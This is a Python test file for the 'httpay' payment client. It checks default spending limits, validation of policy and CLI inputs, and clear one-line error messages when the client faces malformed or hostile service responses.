"""The surfaces a person or an agent touches, against hostile services (issue 10, items 6 and 12-16).

Safe by default (a client with no policy has limits), a CLI that never shows a traceback and says
what to try with a documented exit code, read-only commands that never create a ledger, numbers
refused where they enter, advice naming the knob of the surface that set the limit, and `offers`
reading every dialect the client pays. Each case asserts wallet calls, ledger rows, spend (fees
included), and the error's type and text; cases with a client run through Client and AsyncClient.
"""

from __future__ import annotations

import contextlib
import io
import json
import math
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.requests import Request
from starlette.responses import JSONResponse, Response

import httpay
from httpay.apps.agent import Toolbox
from httpay.apps.agent.mcp_server import toolbox_from_env
from httpay.apps.agent.schemas import dispatch
from httpay.apps.cli import main
from httpay.config import policy_from_toml
from httpay.ledger import Intent, SQLiteLedger
from httpay.safe import clean
from tests.helpers import NOTEBOOK_OFFERS
from tests.hostile.conftest import Ran
from tests.hostile.harness import CountingWallet, HostileService, RawServer, run

ROOT = Path(__file__).resolve().parents[2]
RATE = 100_000  # USD per BTC: $0.01 = 10 sat

X402_BODY = {
    "x402Version": 1, "error": "X-PAYMENT header is required",
    "accepts": [{"scheme": "exact", "network": "base-sepolia", "maxAmountRequired": "10000",
                 "resource": "https://api.example/weather", "description": "Access to weather data",
                 "mimeType": "application/json", "payTo": "0x209693Bc6afc0C5328bA36FaF03C514EF312287C",
                 "maxTimeoutSeconds": 60, "asset": "0x036CbD53842c5426634e7929541eC2318f3dCF7e",
                 "extra": {"name": "USDC", "version": "2"}}],
}


def x402_route(svc: HostileService, path: str = "/x402") -> str:
    async def handler(request: Request) -> Response:
        return JSONResponse(X402_BODY, status_code=402)
    return svc.route(path, handler)


def closed_port() -> int:
    """A loopback port nothing listens on (connections to it are refused)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def prefill(ledger: Path, *payments: tuple[int, timedelta]) -> None:
    """Settled payments of (sat, how long ago), written straight into the ledger."""
    now = datetime.now(UTC)
    with SQLiteLedger(ledger) as lg:
        for i, (sat, ago) in enumerate(payments):
            r = lg.reserve(Intent(host="earlier.example", url="http://earlier.example/x", protocol="l402-v0.2",
                                  method="lightning", amount_msat=sat * 1000, payment_hash=f"{i:02x}" * 32),
                           now=now - ago)
            lg.settle(r.id, preimage="ab" * 32, fee_msat=0)


# -- 6. safe by default: Client and AsyncClient ------------------------------------------------------------
@dataclass(frozen=True)
class DefaultCase:
    name: str
    route: str                        # "classic:<sat>" or "v02"
    policy: Callable[[Path], httpay.Policy | None]
    paid: int                         # wallet calls = settled payments
    spent_msat: int                   # what the ledger counts, fee included (the CountingWallet's fee is 1 sat)
    rule: str | None = None
    text: tuple[str, ...] = ()
    before: tuple[tuple[int, timedelta], ...] = ()


def _toml(text: str) -> Callable[[Path], httpay.Policy]:
    def make(tmp: Path) -> httpay.Policy:
        f = tmp / "policy.toml"
        f.write_text(text)
        return policy_from_toml(f)
    return make


DEFAULT_CASES = [
    DefaultCase("no policy: a 2,000 sat token is over the default 1,000 sat per payment", "classic:2000",
                lambda _: None, 0, 0, "max_per_payment",
                ("default per-payment limit of 1,000 sat", "raise Policy(max_per_payment_sat=...)")),
    DefaultCase("no policy: a 10 sat token is paid", "classic:10", lambda _: None, 1, 11_000),
    DefaultCase("a budget alone keeps the per-payment default", "classic:2000",
                lambda _: httpay.Policy(budget_usd=50, usd_per_btc=RATE), 0, 0, "max_per_payment",
                ("default per-payment limit of 1,000 sat",)),
    DefaultCase("a per-payment limit replaces the per-payment default", "classic:2000",
                lambda _: httpay.Policy(max_per_payment_sat=5_000), 1, 2_001_000),
    DefaultCase("Policy.unlimited() is the explicit way to pay above the defaults", "classic:2000",
                lambda _: httpay.Policy.unlimited(), 1, 2_001_000),
    DefaultCase("no policy: the default hourly budget", "classic:10", lambda _: None, 0, 9_995_000, "per_hour",
                ("default hourly budget of 10,000 sat", "raise Policy(per_hour_sat=...) or wait"),
                before=((9_995, timedelta(minutes=10)),)),
    DefaultCase("no policy: the default daily budget", "classic:10", lambda _: None, 0, 49_995_000, "per_day",
                ("default daily budget of 50,000 sat", "raise Policy(per_day_sat=...)"),
                before=((49_995, timedelta(hours=3)),)),
    DefaultCase("an hourly USD limit replaces the hourly default, the daily default stays", "classic:10",
                lambda _: httpay.Policy(per_hour_usd=100, usd_per_btc=RATE), 0, 49_995_000, "per_day",
                ("default daily budget",), before=((49_995, timedelta(minutes=5)),)),
    DefaultCase("no policy, USD offers, no rate: refused rather than paid blind", "v02", lambda _: None, 0, 0,
                "exchange_rate", ("no exchange rate converts that to sat", "set Policy(usd_per_btc=...)")),
    DefaultCase("no limit set but a rate: the cheapest USD offer fits the default cap", "v02",
                lambda _: httpay.Policy(usd_per_btc=RATE), 1, 11_000),
    DefaultCase("TOML allowed_hosts given as one string is that one host", "classic:10",
                _toml('allowed_hosts = "stock.example"\n'), 0, 0, "allowed_hosts",
                ("not in the policy's allowed hosts (stock.example)",)),
    DefaultCase("TOML default_limits = false is Policy.unlimited()", "classic:2000",
                _toml("default_limits = false\n"), 1, 2_001_000),
]


@pytest.mark.parametrize("case", DEFAULT_CASES, ids=[c.name for c in DEFAULT_CASES])
def test_default_limits(case: DefaultCase, svc: HostileService, wallet: CountingWallet, ledger: Path,
                        mode: str, tmp_path: Path) -> None:
    url = svc.v02() if case.route == "v02" else svc.classic(price_sat=int(case.route.split(":")[1]))
    prefill(ledger, *case.before)
    out = run(mode, url, wallet=wallet, ledger=ledger, policy=case.policy(tmp_path))
    assert out.wallet_calls == case.paid and len(out.settled) == case.paid + len(case.before)
    assert out.spent_msat == case.spent_msat
    if case.rule is None:
        assert out.error is None and out.status == 200, out.error
        return
    assert isinstance(out.error, httpay.PaymentRefused), out.error
    assert out.error.rule == case.rule and out.response is None
    for want in case.text:
        assert want in str(out.error), (want, str(out.error))
    assert len(out.receipts) == len(case.before)  # nothing pending, nothing failed: the wallet was never asked


@pytest.mark.parametrize(("policy", "shown"), [
    (httpay.Policy(), "at most 1,000 sat per payment (default), 10,000 sat per hour (default), 50,000 sat per day (default)"),
    (httpay.Policy(budget_usd=5), "at most 1,000 sat per payment (default), $5.00 in total, 10,000 sat per hour (default)"),
    (httpay.Policy(max_per_payment_usd=2, per_day_sat=20_000), "at most $2.00 per payment, 10,000 sat per hour (default), 20,000 sat per day"),
    (httpay.Policy.unlimited(), "unlimited"),
    (httpay.Policy.unlimited(budget_sat=500), "500 sat in total"),
])
def test_the_limits_in_force_are_shown_by_str_and_repr(policy: httpay.Policy, shown: str) -> None:
    assert shown in str(policy) and shown in repr(policy)
    assert ("unlimited" in str(policy)) == policy.is_unlimited


# -- 14. numbers (and lists) refused where they enter: Policy fields, TOML keys ---------------------------
@pytest.mark.parametrize(("settings", "named"), [
    ({"budget_usd": -1}, "budget_usd"), ({"budget_usd": math.nan}, "budget_usd"), ({"per_day_sat": math.inf}, "per_day_sat"),
    ({"max_per_payment_sat": -5}, "max_per_payment_sat"), ({"usd_per_btc": 0}, "usd_per_btc"),
    ({"usd_per_btc": math.nan}, "usd_per_btc"), ({"max_fee_msat": True}, "max_fee_msat"), ({"calls": 0}, "calls"),
    ({"price_tolerance": math.nan}, "price_tolerance"), ({"per_hour_usd": "5"}, "per_hour_usd"),
    ({"allowed_hosts": [1, 2]}, "allowed_hosts"), ({"default_limits": "no"}, "default_limits"),
])
def test_policy_fields_refuse_bad_numbers_by_name(settings: dict[str, Any], named: str) -> None:
    with pytest.raises(httpay.ConfigError, match=rf"Policy\({named}=\.\.\.\)"):
        httpay.Policy(**settings)


@pytest.mark.parametrize(("toml", "named"), [
    ("budget_usd = -1", "budget_usd"), ("budget_usd = nan", "budget_usd"), ("usd_per_btc = inf", "usd_per_btc"),
    ("usd_per_btc = 0", "usd_per_btc"), ("max_per_payment_sat = -1", "max_per_payment_sat"), ("calls = 0", "calls"),
    ("per_day_sat = true", "per_day_sat"), ("price_tolerance = 2", "price_tolerance"), ("methods = [1]", "methods"),
    ('default_limits = "false"', "default_limits"), ('payees = "abc"', "payees"),
])
def test_toml_keys_refuse_bad_values_by_key_and_file(toml: str, named: str, tmp_path: Path) -> None:
    f = tmp_path / "policy.toml"
    f.write_text(toml + "\n")
    with pytest.raises(httpay.ConfigError) as err:
        policy_from_toml(f)
    assert str(f) in str(err.value) and f"{named} must be" in str(err.value) and "Policy(" not in str(err.value)


@pytest.mark.parametrize("key", ["allowed_hosts", "denied_hosts", "payment_hosts", "methods"])
def test_a_toml_list_given_as_one_string_is_one_item(key: str, tmp_path: Path) -> None:
    one = "x402" if key == "methods" else "stock.example"
    f = tmp_path / "policy.toml"
    f.write_text(f'{key} = "{one}"\n')
    assert list(getattr(policy_from_toml(f), key)) == [one]
    assert list(getattr(httpay.Policy(**{key: one}), key)) == [one]


@pytest.mark.parametrize(("toml", "says"), [
    ("[policy]\nbudget_usd = 5\n[clinet]\npayment_deadline = 30\n", "unknown table or setting(s) clinet beside [policy]"),
    ("budget_sat = 9\n[policy]\nbudget_usd = 5\n", "unknown table or setting(s) budget_sat beside [policy]"),
    ('methods = ["lightnin"]\n', "methods names 'lightnin', which httpay cannot pay by"),
    ('[payees]\n"stock.example" = "02abc"\n', "payees: stock.example's payee must be a node pubkey"),
])
def test_a_typo_in_a_policy_file_is_an_error_not_a_lost_limit(toml: str, says: str, tmp_path: Path) -> None:
    f = tmp_path / "policy.toml"
    f.write_text(toml)
    with pytest.raises(httpay.ConfigError) as err:
        policy_from_toml(f)
    assert str(f) in str(err.value) and says in str(err.value), str(err.value)


@pytest.mark.parametrize(("kwargs", "named"), [({"usd": -0.01}, "usd"), ({"usd": math.nan}, "usd"),
                                                ({"sat": -1}, "sat"), ({"sat": math.inf}, "sat")])
def test_a_request_price_cap_refuses_bad_numbers(kwargs: dict[str, float], named: str, wallet: CountingWallet,
                                                 ledger: Path) -> None:
    with httpay.Client(wallet=wallet, ledger=ledger, policy=httpay.Policy(usd_per_btc=RATE)) as c, \
            pytest.raises(httpay.ConfigError, match=rf"max_price\({named}=\.\.\.\)"):
        c.max_price(**kwargs)


# -- a client's own arguments are checked when it is made, not at the first 402 -------------------------------
@pytest.mark.parametrize(("kwargs", "says"), [
    ({"policy": {"budget_usd": 5}}, "policy= must be an httpay.Policy, got dict: write httpay.Policy(budget_usd=5)"),
    ({"policy": 5}, "policy= must be an httpay.Policy, got int"),
    ({"ledger": 5}, "ledger= must be a file path, a postgresql:// URL, ':memory:' or an httpay Ledger, got int"),
    ({"ledger": ""}, "ledger= must name a file"),
    ({"reconcile_grace_s": -1}, "reconcile_grace_s= must be a number of seconds"),
    ({"on_event": "print"}, "on_event= must be a function"),
    ({"timeout": "30"}, "timeout= must be seconds"),
])
@pytest.mark.parametrize("kind", ["Client", "AsyncClient", "PaymentTransport"])
def test_a_client_checks_its_arguments_when_it_is_made(kwargs: dict[str, Any], says: str, kind: str,
                                                       wallet: CountingWallet, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    if kind == "PaymentTransport" and "timeout" in kwargs:
        says = "a payment transport takes no timeout="  # (the client it is given to has the timeout)
    with pytest.raises(httpay.ConfigError) as err:
        getattr(httpay, kind)(**{"wallet": wallet, "ledger": ":memory:", **kwargs})
    assert says in str(err.value)
    assert list(tmp_path.iterdir()) == []  # no file named 5, 5-wal, 5-shm


@pytest.mark.parametrize(("make", "error", "says"), [
    (lambda: httpay.Policy(bugdet_usd=5), httpay.ConfigError, "Policy has no setting bugdet_usd (bugdet_usd: did you mean budget_usd?)"),
    (lambda: httpay.Policy(approve=5), httpay.ConfigError, "Policy(approve=...) must be a function"),
    (lambda: httpay.Policy(payment_hosts=5), httpay.ConfigError, "Policy(payment_hosts=...) must be a list of host names"),
    (lambda: httpay.Policy(5), httpay.ConfigError, "Policy takes its settings by name"),
    (lambda: httpay.PaymentOffers.from_response("x"), httpay.ChallengeError, "takes an HTTP response"),
    (lambda: httpay.DemoWallet.create(None), httpay.WalletError, "needs the demo service's URL"),
    (lambda: policy_from_toml(5), httpay.ConfigError, "a policy file is named by a path"),
])
def test_python_mistakes_are_typed_errors_that_say_what_to_write(make: Callable[[], object], error: type[Exception],
                                                                 says: str) -> None:
    with pytest.raises(error) as err:
        make()
    assert says in str(err.value)


@pytest.mark.parametrize(("content", "says"), [(None, "is a folder"), (b"\xff\xfe budget = 1", "is not UTF-8 text")])
def test_a_policy_file_that_cannot_be_read_says_why(content: bytes | None, says: str, tmp_path: Path,
                                                    cli: Callable[..., Ran]) -> None:
    path = tmp_path / "policy.toml"
    if content is None:
        path.mkdir()
    else:
        path.write_bytes(content)
    with pytest.raises(httpay.ConfigError, match=says):
        policy_from_toml(path)
    ran = cli("budget", "--policy", str(path), "--ledger", str(SQLiteLedger(tmp_path / "l.db").path))
    assert ran.code == 1 and says in ran.err and "Traceback" not in ran.err and "unexpected error" not in ran.err


def test_since_longer_ago_than_any_date_is_every_payment(cli: Callable[..., Ran], tmp_path: Path) -> None:
    path = SQLiteLedger(tmp_path / "l.db").path
    ran = cli("ledger", "--since", "99999999d", "--ledger", path)
    assert ran.code == 0 and "Traceback" not in ran.err + ran.out, ran.err


@pytest.mark.parametrize("kind", ["Client", "AsyncClient"])
@pytest.mark.parametrize("where", ["typo/ledger.sqlite3", "/proc/nope/ledger.sqlite3", "a-file/ledger.sqlite3"])
def test_a_ledger_in_a_missing_folder_is_refused_not_started_afresh(kind: str, where: str, wallet: CountingWallet,
                                                                    tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("not a folder")
    path = where if where.startswith("/") else str(tmp_path / where)
    with pytest.raises(httpay.LedgerError) as err:
        getattr(httpay, kind)(wallet=wallet, ledger=path)
    assert path in str(err.value) and "does not exist" in str(err.value) and "check the path" in str(err.value)
    assert not (tmp_path / "typo").exists()


def test_a_file_that_is_no_ledger_says_so(wallet: CountingWallet, tmp_path: Path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes, not a database\n" * 100)
    with pytest.raises(httpay.LedgerError, match="not a SQLite file: check the path names the ledger"):
        httpay.Client(wallet=wallet, ledger=notes)
    assert notes.read_text().startswith("my notes")


def test_the_default_ledger_folder_is_made(wallet: CountingWallet, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HTTPAY_LEDGER", raising=False)
    monkeypatch.setattr("httpay.ledger.default_ledger_path", lambda: tmp_path / "data" / "httpay" / "ledger.sqlite3")
    with httpay.Client(wallet=wallet) as c:
        assert c.ledger.path == str(tmp_path / "data" / "httpay" / "ledger.sqlite3")
    assert (tmp_path / "data" / "httpay" / "ledger.sqlite3").exists()


@pytest.mark.parametrize("url", ["postgresql://u:hunter2@127.0.0.1:1/db", "sqlite:///{tmp}/env.sqlite3"])
def test_httpay_ledger_may_be_a_url(url: str, wallet: CountingWallet, tmp_path: Path,
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """HTTPAY_LEDGER as a URL is that URL for the library too (it was read as a path, its "//" folded:
    'the folder postgresql:/u:hunter2@127.0.0.1:1 does not exist', password and all)."""
    monkeypatch.setenv("HTTPAY_LEDGER", url.format(tmp=tmp_path))
    if url.startswith("postgresql"):
        with pytest.raises(httpay.LedgerError, match="cannot open the PostgreSQL ledger") as err:
            httpay.Client(wallet=wallet)
        assert "hunter2" not in str(err.value) and "folder" not in str(err.value)
        return
    with httpay.Client(wallet=wallet) as c:
        assert c.ledger.path == str(tmp_path / "env.sqlite3")


def test_a_plain_httpx_client_pays_through_the_transport_given_settings(svc: HostileService, wallet: CountingWallet,
                                                                         ledger: Path) -> None:
    transport = httpay.PaymentTransport(wallet=wallet, policy=httpay.Policy(max_per_payment_sat=100), ledger=ledger)
    with httpx.Client(transport=transport) as c:
        r = c.get(svc.classic())
    assert r.status_code == 200 and wallet.paid == 1
    assert transport.payer.ledger._db is not None
    with SQLiteLedger(ledger) as lg:
        assert [x.status.value for x in lg.receipts()] == ["settled"]
    with pytest.raises(httpay.ConfigError, match="takes no walet="):
        httpay.PaymentTransport(walet=wallet)
    with pytest.raises(httpay.ConfigError, match="not both"):
        httpay.PaymentTransport(httpay.Payer.create(wallet=wallet, ledger=":memory:"), wallet=wallet)


# -- the CLI, in this process, paying with the counting wallet ----------------------------------------------


@dataclass(frozen=True)
class CliCase:
    name: str
    args: Callable[[HostileService, Path], list[str]]
    code: int
    says: tuple[str, ...]
    paid: int = 0
    paying: bool = True
    fail: Exception | None = None     # the counting wallet raises this instead of paying


def never_honoured(svc: HostileService) -> str:
    """A classic route that takes the payment and still answers 402 (a fresh challenge every time)."""
    async def handler(request: Request) -> Response:
        return svc.classic_challenge(10)
    return svc.route("/never", handler)


def _policy_file(tmp: Path, text: str) -> str:
    f = tmp / "cli-policy.toml"
    f.write_text(text)
    return str(f)


CLI_CASES = [
    # 12: bad URLs and networks: one line, what happened and what to try, a documented code
    CliCase("ftp URL", lambda s, t: ["get", "ftp://files.example/x"], 2, ("not an http:// or https:// URL",)),
    CliCase("no scheme", lambda s, t: ["get", "stock.example/ticker"], 2, ("did you mean https://stock.example/ticker",)),
    CliCase("no scheme, a loopback server", lambda s, t: ["get", "127.0.0.1:8402/x"], 2,
            ("did you mean http://127.0.0.1:8402/x",)),
    CliCase("no scheme, localhost", lambda s, t: ["get", "localhost:8402/x"], 2, ("did you mean http://localhost:8402/x",)),
    CliCase("bad port", lambda s, t: ["get", "http://127.0.0.1:99999/x"], 2, ("Port out of range 0-65535",)),
    CliCase("port not a number", lambda s, t: ["get", "http://127.0.0.1:abc/x"], 2, ("not a URL httpay can read",)),
    CliCase("broken IPv6 host", lambda s, t: ["get", "http://[::1/x"], 2, ("not a URL httpay can read",)),
    CliCase("no host", lambda s, t: ["offers", "http:///x"], 2, ("has no host",)),
    CliCase("refused connection", lambda s, t: ["get", f"http://127.0.0.1:{closed_port()}/x"], 5,
            ("connection refused", "is the service running")),
    CliCase("unknown host", lambda s, t: ["get", "http://nothing.invalid/x"], 5,
            ("unknown host nothing.invalid", "check the spelling")),
    CliCase("refused connection, no wallet", lambda s, t: ["get", f"http://127.0.0.1:{closed_port()}/x"], 5,
            ("connection refused",), paying=False),
    CliCase("offers: ftp URL", lambda s, t: ["offers", "ftp://files.example/x"], 2, ("not an http:// or https://",)),
    CliCase("offers: unknown host", lambda s, t: ["offers", "http://nothing.invalid/x"], 5, ("unknown host",)),
    CliCase("free URL, no wallet", lambda s, t: ["get", s.free()], 0, ('"ok":true',), paying=False),
    CliCase("a bad --tag is a usage error before anything is sent, wallet or none",
            lambda s, t: ["get", s.free(), "--tag", "a=b=c"], 2, ("--tag",), paying=False),
    CliCase("-v after the command is taken as it is before it", lambda s, t: ["get", s.free(), "-v"], 0,
            ('"ok":true',), paying=False),
    CliCase("a failure of any --json command is JSON too", lambda s, t: ["budget", "--json", "--ledger",
                                                                          str(t / "nope.sqlite3")], 1,
            ('"ok": false', '"error": "ConfigError"'), paying=False),
    CliCase("offers takes --policy", lambda s, t: ["offers", s.classic(), "--policy",
                                                   _policy_file(t, "max_per_payment_sat = 5\n")], 0,
            ("your policy would refuse", "per-payment limit of 5 sat"), paying=False),
    CliCase("offers of a 404 says the service answered an error", lambda s, t: ["offers", s.url + "/nothing-here"],
            6, ("HTTP 404 Not Found: the service answered an error",), paying=False),
    CliCase("a 402 and no wallet: names the variable (6: nothing here can pay it)", lambda s, t: ["get", s.classic()], 6,
            ("no wallet is configured", "HTTPAY_WALLET", "Nothing was paid"), paying=False),
    CliCase("the service answers 404", lambda s, t: ["get", s.url + "/nothing-here"], 6, ("HTTP 404",)),
    # 6 + 15: refusals name the CLI's knob and exit 3
    CliCase("default cap: names the policy file key", lambda s, t: ["get", s.classic(price_sat=2000)], 3,
            ("default per-payment limit of 1,000 sat", "raise max_per_payment_sat in a policy file (--policy FILE")),
    CliCase("--max-price-sat names itself", lambda s, t: ["get", s.classic(), "--max-price-sat", "5"], 3,
            ("above this request's price cap of 5 sat", "raise --max-price-sat")),
    CliCase("--max-price in USD with no rate names --usd-per-btc", lambda s, t: ["get", s.classic(), "--max-price", "1"],
            1, ("--max-price is in USD and no BTC/USD rate is known", "--usd-per-btc")),
    CliCase("--budget-usd names itself", lambda s, t: ["get", s.classic(), "--budget-usd", "0.001",
                                                       "--usd-per-btc", "100000"], 3,
            ("total budget", "raise --budget-usd")),
    CliCase("a policy file's key is named with the file", lambda s, t: [
        "get", s.classic(), "--policy", _policy_file(t, "budget_sat = 5\n")], 3, ("raise budget_sat in ",)),
    CliCase("dry run of a classic 402 says what it would pay", lambda s, t: ["get", s.classic(), "--dry-run"], 0,
            ("would pay", "10 sat", "nothing was paid, the wallet was not called")),
    CliCase("dry run over the default cap names the knob", lambda s, t: ["get", s.classic(price_sat=2000), "--dry-run"],
            3, ("would not pay", "default per-payment limit", "max_per_payment_sat in a policy file")),
    CliCase("dry run of an x402 402 says the command cannot sign", lambda s, t: ["get", x402_route(s), "--dry-run"],
            6, ("would not pay", "no x402 signer")),
    CliCase("an invoice refused before paying is a refusal (3) that says nothing was paid",
            lambda s, t: ["get", s.v02("/v02-over", invoice_msat=20_000), "--usd-per-btc", "100000"], 3,
            ("the invoice was refused before paying", "Nothing was paid")),
    CliCase("a service taking only cards: nothing here can pay it (6), and no knob to turn",
            lambda s, t: ["get", s.v02("/v02-card", offers=[{"offer_id": "cc", "title": "t", "description": "",
                                                              "type": "top-up", "balance": 1, "amount": 1,
                                                              "currency": "USD", "payment_methods": ["credit_card"]}])],
            6, ("takes only credit_card, which httpay cannot pay", "Nothing was paid")),
    # 12: a payment that failed, or was made and not honoured: exit 4, and the line says which
    CliCase("the wallet cannot pay", lambda s, t: ["get", s.classic()], 4,
            ("payment failed: InsufficientFunds", "the wallet holds 3 sat"),
            fail=httpay.InsufficientFunds("the wallet holds 3 sat")),
    CliCase("paid, and the service still asks", lambda s, t: ["get", never_honoured(s)], 4,
            ("ledger #1", "httpay ledger"), paid=1),
    CliCase("paid within the defaults", lambda s, t: ["get", s.classic()], 0, ('"served":true', "paid"), paid=1),
    # 14: flags refuse bad numbers by name (argparse: exit 2)
    CliCase("--budget-usd -1", lambda s, t: ["get", s.free(), "--budget-usd", "-1"], 2, ("argument --budget-usd: must be",)),
    CliCase("--budget-usd nan", lambda s, t: ["get", s.free(), "--budget-usd", "nan"], 2, ("argument --budget-usd: must be",)),
    CliCase("--max-price inf", lambda s, t: ["get", s.free(), "--max-price", "inf"], 2, ("argument --max-cost/--max-price/--max-price-usd: must be",)),
    CliCase("--max-price-sat -5", lambda s, t: ["get", s.free(), "--max-price-sat", "-5"], 2, ("argument --max-price-sat/--max-cost-sat: must be",)),
    CliCase("--usd-per-btc 0", lambda s, t: ["get", s.free(), "--usd-per-btc", "0"], 2, ("argument --usd-per-btc: must be a positive",)),
    CliCase("--approval-timeout -1", lambda s, t: ["get", s.free(), "--ask", "--approval-timeout", "-1"], 2,
            ("argument --approval-timeout: must be",)),
    CliCase("--approval-timeout without --ask is no payment made unasked", lambda s, t: [
        "get", s.classic(), "--approval-timeout", "5"], 2, ("--approval-timeout only works with --ask",)),
    CliCase("--budget-usd 1e308", lambda s, t: ["get", s.free(), "--budget-usd", "1e308"], 2,
            ("argument --budget-usd: is larger than any real amount",)),
    CliCase("--max-price-sat with 4,000 digits", lambda s, t: ["get", s.free(), "--max-price-sat", "9" * 4000], 2,
            ("argument --max-price-sat/--max-cost-sat: is larger than any real amount",)),
    CliCase("--max-price-sat with 5,000 digits", lambda s, t: ["get", s.free(), "--max-price-sat", "9" * 5000], 2,
            ("argument --max-price-sat/--max-cost-sat: must be a whole number",)),
    CliCase("ledger --limit 0", lambda s, t: ["ledger", "--limit", "0"], 2, ("argument --limit: must be a positive",)),
    CliCase("ledger --since yesterday", lambda s, t: ["ledger", "--since", "yesterday"], 2,
            ("argument --since: use 30m, 1h, 1d, 1w or an ISO date/time",)),
    CliCase("a header without a colon", lambda s, t: ["get", s.free(), "-H", "Authorization Bearer x"], 2,
            ("argument -H/--header: 'Authorization Bearer x' must look like 'Name: value'",)),
    CliCase("offers: a header without a colon", lambda s, t: ["offers", s.free(), "-H", "X"], 2,
            ("argument -H/--header:",)),
    CliCase("a header that is not ASCII", lambda s, t: ["get", s.free(), "-H", "X-A: é"], 2,
            ("argument -H/--header: header 'X-A' is not ASCII text",)),
    CliCase("a header name with a space", lambda s, t: ["get", s.free(), "-H", "Bad Name: x"], 2,
            ("argument -H/--header: 'Bad Name' is not a header name",)),
    CliCase("a header value with a control character", lambda s, t: ["get", s.free(), "-H", "X-A: a\x01b"], 2,
            ("argument -H/--header: header 'X-A' holds a line break or a control character",)),

    CliCase("a negative TOML budget names the key", lambda s, t: [
        "get", s.free(), "--policy", _policy_file(t, "budget_usd = -1\n")], 1, ("budget_usd must be a non-negative",)),
    CliCase("a NaN TOML rate names the key", lambda s, t: [
        "get", s.free(), "--policy", _policy_file(t, "usd_per_btc = nan\n")], 1, ("usd_per_btc must be",)),
]


@pytest.mark.parametrize("case", CLI_CASES, ids=[c.name for c in CLI_CASES])
def test_cli_says_one_line_and_a_documented_code(case: CliCase, cli: Callable[..., Ran], svc: HostileService,
                                                 wallet: CountingWallet, ledger: Path, tmp_path: Path) -> None:
    wallet.fail = case.fail
    args = case.args(svc, tmp_path)
    ran = cli(*args, *(["--ledger", str(ledger)] if args[0] == "get" else []), paying=case.paying)
    both = ran.out + ran.err
    assert ran.code == case.code, both
    assert "Traceback" not in both
    for want in case.says:
        assert want in both, (want, both)
    assert wallet.paid == case.paid and len(wallet.calls) == case.paid + (1 if case.fail else 0)
    if case.code not in (0, 6):
        error_lines = [line for line in ran.err.splitlines() if line.startswith(("httpay:", "usage:", "httpay "))]
        assert len([line for line in error_lines if line.startswith("httpay:")]) <= 1, ran.err  # said once
        if case.fail is not None:  # nor once more by a progress line
            assert ran.err.count(str(case.fail)) == 1, ran.err
    if ledger.exists():
        with SQLiteLedger(ledger) as lg:
            assert len([r for r in lg.receipts() if r.status.value == "settled"]) == case.paid
            assert lg.spent_msat() == case.paid * 11_000


class _Answers(RawServer):
    """Answers every request with `answer`, byte for byte, and hangs up: what no framework sends."""

    def __init__(self, answer: bytes) -> None:
        self.answer = answer
        super().__init__("raw-answer")
        self.url = self.base + "/x"

    def _one(self, conn: Any) -> None:
        with conn:
            if self.read_head(conn) is None:
                return
            with contextlib.suppress(OSError):  # the client stops reading a huge answer
                conn.sendall(self.answer)


_CHALLENGE = b'WWW-Authenticate: Payment id="x", realm="r", method="lightning", intent="charge", request="e30"\r\n'
UNREADABLE = {  # what the service sends: the exit code and what the line must say
    "a 200 KB WWW-Authenticate": (b'HTTP/1.1 402 Payment Required\r\nWWW-Authenticate: L402 macaroon="'
                                  + b"A" * 200_000 + b'", invoice="lnbc1"\r\nContent-Length: 0\r\n\r\n', 6,
                                  "answered, but its response headers are over 100 KiB, more than httpay reads"),
    "2,000 Payment challenges": (b"HTTP/1.1 402 Payment Required\r\n" + _CHALLENGE * 2_000 + b"Content-Length: 0\r\n\r\n",
                                 6, "answered, but its response headers are over 100 KiB"),
    "not HTTP": (b"\x00\x01 this is not HTTP at all\r\n\r\n", 6, "answered, but not in HTTP httpay can read"),
    "a hang-up without an answer": (b"", 5, "closed the connection without answering"),
}


@pytest.mark.parametrize("command", ["offers", "get"])
@pytest.mark.parametrize("name", list(UNREADABLE))
def test_a_service_that_answers_unreadably_is_not_called_unreachable(name: str, command: str, cli: Callable[..., Ran],
                                                                     wallet: CountingWallet, ledger: Path) -> None:
    answer, code, says = UNREADABLE[name]
    raw = _Answers(answer)
    try:
        ran = cli(command, raw.url, *(["--ledger", str(ledger)] if command == "get" else []))
    finally:
        raw.close()
    assert ran.code == code, ran.err
    assert says in ran.err and "could not reach" not in ran.err and "Traceback" not in ran.err, ran.err
    assert ran.err.count("\n") == 1 and wallet.calls == []
    if code == 6:
        assert "the service is at fault, not your network" in ran.err
        assert raw.connections == 1  # an answer was had: asking again gets the same


def test_a_paying_command_refuses_a_ledger_in_a_missing_folder(cli: Callable[..., Ran], svc: HostileService,
                                                               wallet: CountingWallet, tmp_path: Path) -> None:
    typo = tmp_path / "typo" / "x.sqlite3"
    ran = cli("get", svc.classic(), "--ledger", str(typo))
    assert ran.code == 1 and str(typo) in ran.err and "does not exist" in ran.err and "Traceback" not in ran.err
    assert wallet.calls == [] and not typo.parent.exists()


@pytest.mark.parametrize("command", ["demo-server", "dashboard"])
def test_a_server_on_a_taken_port_says_so_before_any_url(command: str, cli: Callable[..., Ran], tmp_path: Path) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = taken.getsockname()[1]
        extra = ["--ledger", str(SQLiteLedger(tmp_path / "l.db").path)] if command == "dashboard" else []
        ran = cli(command, "--port", str(port), *extra)
    assert ran.code == 1, ran.err
    assert f"cannot listen on 127.0.0.1:{port}: the port is in use" in ran.err and "--port 0" in ran.err
    assert "http://" not in ran.out + ran.err and "Traceback" not in ran.err and "Errno" not in ran.err


def test_a_demo_server_beyond_loopback_is_refused_before_any_url(cli: Callable[..., Ran]) -> None:
    ran = cli("demo-server", "--host", "0.0.0.0")
    assert ran.code == 2 and "listens on loopback only" in ran.err and "http://" not in ran.out + ran.err


@pytest.mark.parametrize("where", ["missing/out.json", ".", "/proc/version"])
def test_an_output_file_that_cannot_be_written_is_refused_before_anything_is_paid(
        where: str, cli: Callable[..., Ran], svc: HostileService, wallet: CountingWallet, ledger: Path,
        tmp_path: Path) -> None:
    out = where if where.startswith("/") else str(tmp_path / where)
    ran = cli("get", svc.classic(), "-o", out, "--ledger", str(ledger))
